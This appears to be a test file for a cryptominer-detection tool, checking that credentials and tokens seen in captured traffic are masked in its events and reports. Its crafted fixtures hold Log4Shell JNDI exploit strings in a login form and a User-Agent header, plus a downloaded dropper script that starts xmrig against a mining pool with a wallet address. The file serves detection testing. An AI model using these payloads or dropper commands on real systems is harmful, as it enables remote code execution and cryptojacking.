"""Secrets seen in traffic, through whole analyses: masked everywhere by default (events, the summary),
shown raw with --show-secrets, and masking is the only difference (verdicts, wallets, evidence unchanged).

One crafted capture carries a secret in every place one hides: a Stratum login's password, a Log4Shell
exploit whose form also holds a token, Authorization and Cookie headers, URL query tokens, a dropper script
with a pool URL's userinfo password; and the real XMRig recording."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import orjson

from minerwatch.capture.writer import TcpConversation
from minerwatch.output.secrets import mask_event

XMR = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
RECORDING = Path(__file__).resolve().parent / "fixtures" / "recordings" / "xmrig-6.16.0-cryptonote.pcapng"
MINER, POOL, ATTACKER, DROPPER = "10.1.1.7", "203.0.113.20", "198.51.100.66", "192.0.2.80"
LOGIN = "bob.rig1+5000:LoginPwSeven"
JNDI = "${jndi:ldap://198.51.100.66:1389/Exploit}"
SECRETS = (
    "LoginPwSeven",  # after the login's colon
    "AuthorizePwNine",  # mining.authorize's password parameter
    "FormTokenThree",  # a form field beside the exploit
    "UrlSessionTok",  # a query parameter of the exploit request
    "CookieValFive",
    "BearerTokSix",  # Authorization: Bearer
    "DownloadTokOne",  # the dropper script's URL
    "ScriptPoolPwFour",  # stratum+tcp://wallet.worker:PASSWORD@pool in the script
)


def _line(obj: dict) -> bytes:
    return json.dumps(obj).encode() + b"\n"


def stratum_session() -> TcpConversation:
    c = TcpConversation(MINER, 50311, POOL, 3333, ts=1_700_000_100.0).open()
    c.send(True, _line({"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.11.1"]}))
    c.send(False, _line({"id": 1, "result": [[["mining.notify", "ae68"]], "08000002", 4], "error": None}))
    c.send(True, _line({"id": 2, "method": "mining.authorize", "params": [LOGIN, "AuthorizePwNine"]}))
    c.send(False, _line({"id": 2, "result": True, "error": None}))
    c.send(False, _line({"id": None, "method": "mining.set_difficulty", "params": [8192]}))
    coinbase = "01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff2002"
    notify = ["bf", "4d16" * 16, coinbase, "072f736c", [], "00000002", "1c2ac4af", "504e86b9", True]
    c.send(False, _line({"id": None, "method": "mining.notify", "params": notify}))
    for n in range(2):
        share = [LOGIN, "bf", f"{n:08x}", "504e86ed", "deadbeef"]
        c.send(True, _line({"id": 4 + n, "method": "mining.submit", "params": share}), dt=20)
        c.send(False, _line({"id": 4 + n, "result": True, "error": None}), dt=0.05)
    return c.close()


def log4shell_logins() -> list[TcpConversation]:
    """Log4Shell in a login form's password field; in a User-Agent between a Cookie and an Authorization
    header (the alert's excerpt reaches both): two connections, as a rule alerts once per flow."""
    body = f"csrf_token=FormTokenThree&user=admin&password={JNDI}".encode()
    form = (
        f"POST /login?session_token=UrlSessionTok&lang=en HTTP/1.1\r\nHost: portal.example.org\r\n"
        f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    headers = (
        b"GET / HTTP/1.1\r\nHost: portal.example.org\r\nCookie: sid=CookieValFive\r\n"
        b"User-Agent: ${jndi:ldap://x/a}\r\nAuthorization: Bearer BearerTokSix\r\n\r\n"
    )
    forbidden = b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n"
    return [
        TcpConversation(ATTACKER, port, MINER, 8080, ts=ts)
        .open()
        .send(True, req)
        .send(False, forbidden)
        .close()
        for port, ts, req in ((41000, 1_700_000_000.0, form), (41001, 1_700_000_001.0, headers))
    ]


def dropper_download() -> TcpConversation:
    script = (
        "#!/bin/sh\n"
        f"./xmrig -o stratum+tcp://{XMR}.rig2:ScriptPoolPwFour@pool.example.org:3333 --donate-level 1\n"
        f"./xmrig -o pool.example.org:3333 -u {XMR} -p x --donate-level 1\n"
    ).encode()
    request = (
        b"GET /x.sh?token=DownloadTokOne HTTP/1.1\r\nHost: dl.example.net\r\nUser-Agent: curl/7.68.0\r\n\r\n"
    )
    response = (
        f"HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: {len(script)}\r\n\r\n".encode()
        + script
    )
    c = TcpConversation(MINER, 42000, DROPPER, 80, ts=1_700_000_050.0).open()
    return c.send(True, request).send(False, response).close()


def capture(write_capture) -> Path:
    conversations = (stratum_session(), *log4shell_logins(), dropper_download())
    return write_capture(sorted(p for c in conversations for p in c.packets))


def text_of(events: list[dict]) -> str:
    return orjson.dumps(events).decode()


def test_crafted_capture_masks_every_secret_and_keeps_the_evidence(write_capture, analyse):
    path = capture(write_capture)
    masked, shown = analyse(path), analyse(path, show_secrets=True)
    for secret in SECRETS:
        assert secret in text_of(shown), secret
        assert secret not in text_of(masked), secret
    assert "secrets_masked" not in text_of(shown)
    # Masking is the only difference: the same events, verdicts and wallets, flags added where masked.
    assert [mask_event(event) for event in shown] == masked

    [login] = [e for e in masked if e["event_type"] == "mining" and e["mining"]["behaviour"] == "login"]
    assert login["mining"]["login"] == "bob.rig1+5000:********" and login["mining"]["worker"] == "rig1"
    assert login["mining"]["password"] == "********"
    assert {"mining.login", "mining.password"} <= set(login["secrets_masked"])
    [verdict] = [e for e in masked if e["event_type"] == "verdict"]
    assert verdict["verdict"]["stages"] == [1, 2] and verdict["verdict"]["logins"] == [
        "bob.rig1+5000:********"
    ]
    assert "verdict.logins" in verdict["secrets_masked"]

    form, headers = [
        e for e in masked if e["event_type"] == "alert" and "Log4Shell" in e["alert"]["signature"]
    ]
    [excerpt] = [m["excerpt"] for m in form["alert"]["matched"]]
    assert excerpt == f"csrf_token=********&user=admin&password={JNDI}"  # the exploit stays visible
    assert form["http"]["url"] == "/login?session_token=********&lang=en"
    assert {"alert.matched.excerpt", "http.url"} <= set(form["secrets_masked"])
    [excerpt] = [m["excerpt"] for m in headers["alert"]["matched"]]
    assert (
        "Cookie: sid=********\\r\\nUser-Agent: ${jndi:ldap://x/a}\\r\\nAuthorization: Bearer ********"
        in excerpt
    )

    mining = [e["mining"] for e in masked if e["event_type"] == "mining"]
    urls = [u for m in mining for u in m.get("urls", [])]
    assert f"stratum+tcp://{XMR}.rig2:********@pool.example.org:3333" in urls
    flagged = {e["event_type"] for e in masked if "secrets_masked" in e}
    assert {"mining", "verdict", "alert"} <= flagged


def test_real_xmrig_recording_masks_the_login_password_only(analyse):
    masked, shown = analyse(RECORDING), analyse(RECORDING, show_secrets=True)
    [login] = [e for e in shown if e["event_type"] == "mining" and e["mining"]["behaviour"] == "login"]
    assert login["mining"]["password"] == "rig1" and login["mining"]["login"] == XMR
    assert [mask_event(event) for event in shown] == masked
    [login] = [e for e in masked if e["event_type"] == "mining" and e["mining"]["behaviour"] == "login"]
    assert login["mining"]["password"] == "********" and login["mining"]["login"] == XMR
    assert login["secrets_masked"] == ["mining.password"]
    [verdict] = [e["verdict"] for e in masked if e["event_type"] == "verdict"]
    assert verdict["logins"] == [XMR] and verdict["wallets"][0]["address"] == XMR


def test_console_summary_shows_masked_logins_unless_asked(write_capture):
    path = capture(write_capture)

    def summary(*options: str) -> str:
        command = [sys.executable, "-m", "minerwatch", "analyze", str(path), *options]
        return subprocess.run(command, capture_output=True, text=True, timeout=120).stdout

    masked, shown = summary(), summary("--show-secrets")
    assert "bob.rig1+5000:********" in masked and "LoginPwSeven" not in masked
    assert LOGIN in shown


def test_intel_matches_masked_logins_and_urls_as_raw_ones(tmp_path, write_capture, analyse):
    """Intel sees events after masking: a wallet before a login's masked password, and a pool host
    behind a URL's masked userinfo, are matched all the same."""
    from minerwatch.intel import Indicator, KnowledgeBase

    kb = tmp_path / "kb.sqlite"
    with KnowledgeBase.open(kb, seed=False) as base:
        base.replace_source(
            "test-feed",
            [
                Indicator.build("wallet", XMR, family="kinsing", confidence=95),
                Indicator.build("domain", "test-pool.example", family="testpool", confidence=90),
            ],
        )
    login = {
        "id": 1,
        "method": "login",
        "params": {"login": f"{XMR}.rig:LoginPw", "pass": "x", "agent": "XMRig"},
    }
    script = f"xmrig -o stratum+tcp://{XMR}:UrlPw@eu.test-pool.example:3333\n".encode()
    pool = TcpConversation(MINER, 40004, POOL, 3333).open().send(True, _line(login)).close()
    download = TcpConversation(MINER, 40005, DROPPER, 8000).open().send(False, script).close()
    path = write_capture(sorted(pool.packets + download.packets))
    masked, shown = analyse(path, intel_db=str(kb)), analyse(path, intel_db=str(kb), show_secrets=True)
    assert [e["event_type"] for e in masked] == [e["event_type"] for e in shown]
    assert [mask_event(e) for e in shown if e["event_type"] != "alert"] == [
        e for e in masked if e["event_type"] != "alert"
    ]
    where = {e["alert"]["where"]: e for e in masked if e["event_type"] == "alert"}
    wallet = where["mining login"]
    assert wallet["alert"]["intel"]["family"] == "kinsing"
    assert wallet["alert"]["intel"]["observed"] == f"{XMR}.rig:********"  # the login it quotes, masked
    assert wallet["secrets_masked"] == ["alert.intel.observed"]
    pool_url = where["mining pool-url"]
    assert pool_url["alert"]["intel"]["family"] == "testpool" and "secrets_masked" not in pool_url
    assert "LoginPw" not in text_of(masked) and "UrlPw" not in text_of(masked)


def test_report_of_an_unmasked_events_file_is_masked_unless_asked(write_capture, tmp_path):
    """An events file written with --show-secrets holds raw secrets: `minerwatch report` masks them."""
    from minerwatch.cli.main import main

    events = tmp_path / "events.jsonl"
    assert main(["analyze", str(capture(write_capture)), "--show-secrets", "-o", str(events)]) == 1
    assert "LoginPwSeven" in events.read_text()
    masked, shown = tmp_path / "masked.json", tmp_path / "shown.json"
    assert main(["report", str(events), "--format", "json", "-o", str(masked)]) == 0
    assert main(["report", str(events), "--format", "json", "-o", str(shown), "--show-secrets"]) == 0
    assert "LoginPwSeven" in shown.read_text()
    assert not any(secret in masked.read_text() for secret in SECRETS)
    assert "bob.rig1+5000:********" in masked.read_text()
